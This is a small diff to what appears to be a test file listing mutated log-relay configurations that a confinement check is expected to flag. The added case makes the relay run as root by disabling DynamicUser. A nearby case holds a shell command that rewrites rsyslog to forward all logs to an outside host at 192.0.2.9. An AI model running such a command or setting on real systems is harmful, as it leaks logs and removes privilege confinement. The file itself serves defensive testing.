@@ -375,6 +375,13 @@ LOGS = [
         RELAY_AGAIN,
         "relay-confined",
     ),
+    edited(
+        "the relay is root",
+        RELAY,
+        "s/^DynamicUser=yes/DynamicUser=no/",
+        RELAY_AGAIN,
+        "relay-confined",
+    ),
     mutant(
         "rsyslog sends too",
         "echo '*.* @@192.0.2.9:6514' > /etc/rsyslog.d/zz.conf; systemctl restart rsyslog",
